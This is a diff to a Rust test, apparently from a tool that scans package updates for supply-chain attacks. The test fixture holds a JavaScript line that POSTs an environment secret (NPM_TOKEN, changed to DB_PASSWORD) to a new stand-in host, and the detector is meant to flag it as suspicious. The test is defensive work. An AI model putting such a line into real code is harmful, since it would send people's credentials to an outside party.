@@ -56,7 +56,7 @@ fn a_secret_that_goes_to_a_new_host_is_suspicious_by_the_change_alone() {
     let user = User::new();
     let before = "exports.run = (key) => fetch('https://api.tool.example/v1', { method: 'POST', body: 'x' });\n";
     let after = format!(
-        "{before}exports.more = () => fetch('https://other.example/v1', {{ method: 'POST', body: process.env.NPM_TOKEN }});\n"
+        "{before}exports.more = () => fetch('https://other.example/v1', {{ method: 'POST', body: process.env.DB_PASSWORD }});\n"
     );
     user.file("1.tgz", package("1.0.0", "", before, &[]));
     user.file("2.tgz", package("1.0.1", "", &after, &[]));
